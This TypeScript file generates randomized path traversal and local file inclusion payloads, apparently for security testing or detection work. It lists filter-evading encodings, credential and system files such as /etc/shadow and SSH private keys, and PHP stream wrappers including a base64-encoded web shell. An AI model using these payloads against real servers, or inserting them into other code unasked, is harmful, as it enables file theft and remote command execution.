// Path traversal and local file inclusion, from the technique: enough `../` to climb out of the
// web root, written in the forms that slip past naive filters (encoded dots and slashes,
// backslashes, `....//` that a single strip turns back into `../`, overlong UTF-8, Tomcat's `..;/`),
// a file worth reading, and sometimes a null byte to cut off an extension the code appends; or a
// PHP stream wrapper instead of a path.
import type { Rng } from '../../rng.js';

const UP = [
  '../',
  '../',
  '..%2f',
  '%2e%2e%2f',
  '%2e%2e/',
  '..%252f',
  '....//',
  '..\\',
  '..%5c',
  '%c0%ae%c0%ae/',
  '..;/',
];
const FILES = [
  'etc/passwd',
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'proc/self/cmdline',
  'var/log/nginx/access.log',
  'windows/win.ini',
  'windows/system32/drivers/etc/hosts',
  'boot.ini',
  'WEB-INF/web.xml',
  'app/.env',
  'home/ubuntu/.ssh/id_rsa',
];

export interface TraversalPayload {
  /** Already in its wire form: encoding is part of the technique here. */
  text: string;
  /** Reads a file the server has (a vulnerable endpoint answers 200 with it). */
  unix: boolean;
}

/** `inPath`: the payload goes in the URL path, where stream wrappers make no sense. */
export function traversalPayload(rng: Rng, inPath = false): TraversalPayload {
  if (!inPath && rng.chance(0.15)) {
    return {
      text: rng.pick([
        'php://filter/convert.base64-encode/resource=index.php',
        'php://filter/read=string.rot13/resource=config.php',
        'file:///etc/passwd',
        'php://input',
        'expect://id',
        `data://text/plain;base64,${Buffer.from('<?php system($_GET["c"]); ?>').toString('base64')}`,
      ]),
      unix: true,
    };
  }
  const up = rng.pick(UP);
  const depth = 2 + rng.int(9);
  const file = rng.pick(FILES);
  const slash = up.endsWith('\\') || up.endsWith('%5c') ? '\\' : '/';
  const cut = rng.chance(0.15) ? rng.pick(['%00', '%00.jpg', '%00.html']) : '';
  const absolute = rng.chance(0.1) ? '/' : '';
  return {
    text: `${absolute}${up.repeat(depth)}${file.replaceAll('/', slash)}${cut}`,
    unix: !file.startsWith('windows') && file !== 'boot.ini',
  };
}
